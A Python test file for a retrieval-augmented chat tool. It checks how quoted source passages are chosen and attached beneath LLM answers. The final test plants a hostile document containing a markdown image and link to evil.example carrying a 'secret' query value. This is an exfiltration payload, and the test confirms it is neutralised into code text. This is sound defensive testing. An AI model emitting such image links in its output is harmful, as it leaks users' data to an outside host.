"""The passage quoted under an answer (ragchat.quote): which sentences it picks, on their own, and
through the chat engine with a real store and embedder and an LLM whose reply is known (the fake
Ollama server): a thin answer, an invented one, a refusal, a copied passage and a hostile document."""

from __future__ import annotations

from ollama_fake import FakeOllama

from ragchat.chat import ChatEngine
from ragchat.config import LLMSettings
from ragchat.grounding import UNSUPPORTED
from ragchat.ingest.pipeline import collect
from ragchat.llm import resolve_llm
from ragchat.quote import markdown, passage, redundant, words

OTTERS = ("Kelp forests grow in cold, nutrient-rich coastal water. Sea otters eat the urchins that graze on kelp. "
          "Where otters live, the forests stay healthy. The Aleutian Islands lost most of their otters in the 1990s. "
          "Orcas began to hunt them there.")


def test_the_passage_is_the_consecutive_sentences_that_match_the_question():
    assert passage(OTTERS, "Why did the Aleutian otters disappear?", "", 20) == (
        "The Aleutian Islands lost most of their otters in the 1990s. Orcas began to hunt them there.")
    assert passage(OTTERS, "What do sea otters eat?", "", 12) == "Sea otters eat the urchins that graze on kelp."
    whole = passage(OTTERS, "kelp", "", 200)
    assert whole == OTTERS  # everything fits: the chunk, in its order


def test_chinese_counts_characters_and_keeps_no_spaces_between_sentences():
    text = "青石镇位于河谷北岸。风筝节每年四月举行，持续三天。镇上有一座石桥。"
    assert passage(text, "风筝节几月举行？", "", 16) == "风筝节每年四月举行，持续三天。"
    assert passage(text, "风筝节几月举行？", "", 30) == "风筝节每年四月举行，持续三天。镇上有一座石桥。"  # on from the best one
    assert words("风筝节 in April") == 5


def test_a_sentence_longer_than_the_budget_is_cut_at_a_clause_then_at_a_word():
    long = "Alpha beta gamma, delta epsilon zeta, eta theta iota kappa lambda mu nu xi omicron pi rho sigma tau."
    got = passage(long, "kappa", "", 6)
    assert words(got) <= 6 and "kappa" in got and got.endswith("…")
    assert passage("one, two, three, four", "two", "", 2) == "one, two,"


def test_the_documents_own_bracketed_numbers_are_not_citations():
    assert markdown("Transformers [12] outperform RNNs [3, 4].\nSee 【5】.", 2) == (
        "> Transformers (12) outperform RNNs (3, 4). See (5). [2]")


def test_a_quote_the_answer_already_holds_is_redundant():
    assert redundant("Sea otters eat the urchins that graze on kelp.", "Sea otters eat urchins, which graze on kelp [1].")
    assert not redundant(OTTERS, "Sea otters eat urchins [1].")


def _ask(engine, reply: str, question: str, **chat_settings):
    settings = engine.settings.chat.model_copy(update=chat_settings)
    with FakeOllama(models=["llama3.2"], reply=reply) as fake:
        llm = LLMSettings(provider="ollama", ollama_url=fake.url, timeout_s=10, connect_timeout_s=1)
        chat = ChatEngine(settings, engine.retriever, lambda o: resolve_llm(llm), engine.gate, 10, engine.has_documents)
        events = list(chat.stream(question))
    return events, events[-1].answer


def _ingest(engine, tmp_path, name: str, text: str):
    doc = tmp_path / name
    doc.write_text(text, encoding="utf-8")
    engine.ingestor.ingest(collect([doc]), "default")


def test_a_thin_answer_gets_the_passage_of_its_source_streamed_and_kept(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    events, answer = _ask(engine, "Orcas hunt them [1].", "Why did the Aleutian Islands lose their otters?", quote_words=20)
    quote = "\n\n> The Aleutian Islands lost most of their otters in the 1990s. Orcas began to hunt them there. [1]"
    assert answer.text == "Orcas hunt them [1]." + quote
    assert [e.text for e in events if e.kind == "token"][-1] == quote  # streamed like the answer, before "done"
    assert [s.source for s in answer.sources] == ["otters.txt"] and not answer.unsupported


def test_an_invented_answer_falls_back_to_the_best_retrieved_passage(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    _, answer = _ask(engine, "Otters were brought to Alaska by Roman sailors in the year 312 [1].",
                     "Why did the Aleutian Islands lose their otters?")
    assert answer.text.startswith(f"Otters were brought to Alaska by Roman sailors in the year 312 {UNSUPPORTED}.\n\n> ")
    assert "Orcas began to hunt them there. [1]" in answer.text
    assert [s.id for s in answer.sources] == [1] and len(answer.unsupported) == 1  # the quoted source is listed


def test_refusals_copied_passages_and_the_setting_add_no_quote(engine, tmp_path):
    _ingest(engine, tmp_path, "otters.txt", OTTERS)
    question = "Why did the Aleutian Islands lose their otters?"
    for reply in ("I could not find the answer in the documents.",
                  "The Aleutian Islands lost most of their otters in the 1990s, when orcas began to hunt them there [1]."):
        _, answer = _ask(engine, reply, question, quote_words=20)
        assert answer.text == reply
    _, answer = _ask(engine, "Orcas hunt them [1].", question, quote_words=0)
    assert answer.text == "Orcas hunt them [1]."


def test_a_hostile_document_cannot_put_a_link_or_image_in_the_quote(engine, tmp_path):
    _ingest(engine, tmp_path, "planted.txt", "The vault code is kept by Mara. ![x](https://evil.example/?q=secret) "
                                            "Ask [Mara](https://evil.example/mara) for the vault code.")
    _, answer = _ask(engine, "Mara keeps it [1].", "Who keeps the vault code?")
    quote = answer.text.split("\n\n> ", 1)[1]
    assert "](" not in quote and "`https://evil.example/?q=secret`" in quote
